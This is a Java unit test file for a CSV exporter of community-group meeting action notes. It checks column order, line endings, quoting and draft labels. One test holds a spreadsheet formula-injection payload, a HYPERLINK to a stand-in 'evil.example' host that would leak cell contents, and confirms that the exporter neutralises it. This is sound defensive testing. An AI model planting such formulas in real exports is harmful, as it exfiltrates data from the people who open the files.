package org.themebot.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class ActionNotesCsvTest {

    private static final List<String> HEADER = List.of("meeting_date", "item_number", "item_title", "action", "timescale",
            "due_date", "who", "status", "ref", "notes_title");

    private final ActionNotesCsv csv = new ActionNotesCsv();

    @Test
    void oneRowPerActionInOrder() throws IOException {
        String text = render(MeetingFixtures.september2008());
        try (CSVParser parser = parse(text)) {
            assertThat(parser.getHeaderNames()).isEqualTo(HEADER);
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows).hasSize(6);
            assertThat(rows).extracting(r -> r.get("due_date"))
                    .containsExactly("2008-09-30", "2008-10-22", "2008-10-31", "2008-10-31", "2008-10-22", "2008-10-08");
            assertThat(rows).extracting(r -> r.get("ref")).containsExactly("A1", "A2", "A3", "A4", "A5", "A6");

            CSVRecord first = rows.get(0);
            assertThat(first.toList()).containsExactly("2008-09-03", "2", "Revised Terms of Reference for the E&CC Theme Group",
                    "Forward the Home Office Toolkit to Debbie for circulation to the group", "Sept 08", "2008-09-30",
                    "Balbir Sohal / Debbie Briggs", "open", "A1", "Action Notes of the Equalities and Communities Theme Group");
            assertThat(rows.get(5).get("who")).isEqualTo("ALL");
            assertThat(rows.get(2).get("timescale")).isEqualTo("Sept/Oct 08");
        }
    }

    @Test
    void rfc4180LineEndingsAfterAByteOrderMark() {
        String text = render(MeetingFixtures.september2008());
        assertThat(text).startsWith("\uFEFFmeeting_date,item_number,");
        assertThat(text.split("\r\n", -1)).hasSize(8); // header, 6 rows, and the empty string after the last CRLF
    }

    @Test
    void noCellOfAnyColumnIsReadAsAFormula() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        ActionNotes notes = new ActionNotes(MeetingFixtures.GROUP, MeetingFixtures.MEETING_DATE, false, List.of(), List.of(),
                List.of(), List.of(MeetingFixtures.item(1, "+Budget",
                        new ActionNotes.ActionRow("A1", formula, "-1 week", java.util.Optional.empty(), List.of("@Sue"), "open"),
                        new ActionNotes.GoodPractice("G1", "\tTab first", "\rCarriage", "tabled"))),
                java.util.Optional.empty());
        try (CSVParser parser = parse(render(notes))) {
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows.get(0).toList()).containsExactly("2008-09-03", "1", "'+Budget", "'" + formula, "'-1 week", "",
                    "'@Sue", "open", "A1", "Action Notes of the Equalities and Communities Theme Group");
            assertThat(rows.get(1).toList()).containsExactly("2008-09-03", "1", "'+Budget", "'\tTab first", "", "",
                    "'\rCarriage", "tabled", "G1", "Action Notes of the Equalities and Communities Theme Group");
        }
    }

    @Test
    void aDraftSaysSoOnEveryRow() throws IOException {
        ActionNotes base = MeetingFixtures.september2008();
        ActionNotes open = new ActionNotes(base.groupName(), base.meetingDate(), true, base.present(), base.apologies(),
                base.opening(), base.items(), base.nextMeeting());
        try (CSVParser parser = parse(render(open))) {
            assertThat(parser.getRecords()).extracting(r -> r.get("notes_title"))
                    .containsOnly("Action Notes of the Equalities and Communities Theme Group (draft)");
        }
    }

    @Test
    void commasQuotesAndNewlinesAreQuoted() throws IOException {
        String tricky = "Ask \"Cllr Foster\", then report back\nat the next meeting";
        String text = render(MeetingFixtures.oneItem(MeetingFixtures.action("A9", tricky, "ongoing", null, "Sue Bent", "Cllr Kevin Foster")));

        assertThat(text).contains("\"Ask \"\"Cllr Foster\"\", then report back\nat the next meeting\"");
        try (CSVParser parser = parse(text)) {
            CSVRecord row = parser.getRecords().get(0);
            assertThat(row.get("action")).isEqualTo(tricky);
            assertThat(row.get("due_date")).isEmpty();
            assertThat(row.get("who")).isEqualTo("Sue Bent / Cllr Kevin Foster");
        }
    }

    @Test
    void openingActionsHaveNoItem() throws IOException {
        ActionNotes base = MeetingFixtures.september2008();
        ActionNotes notes = new ActionNotes(base.groupName(), base.meetingDate(), false, base.present(), base.apologies(),
                List.of(MeetingFixtures.note("Welcome"),
                        MeetingFixtures.action("A0", "Send apologies list to the Partnership", "Sept 08", LocalDate.of(2008, 9, 30), "Debbie Briggs")),
                base.items(), base.nextMeeting());
        try (CSVParser parser = parse(render(notes))) {
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows).hasSize(7);
            assertThat(rows.get(0).get("ref")).isEqualTo("A0");
            assertThat(rows.get(0).get("item_number")).isEmpty();
            assertThat(rows.get(0).get("item_title")).isEmpty();
        }
    }

    private String render(ActionNotes notes) {
        return new String(csv.render(notes), StandardCharsets.UTF_8);
    }

    private static CSVParser parse(String text) throws IOException {
        assertThat(text).startsWith("\uFEFF");
        return CSVParser.parse(new StringReader(text.substring(1)),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get());
    }
}
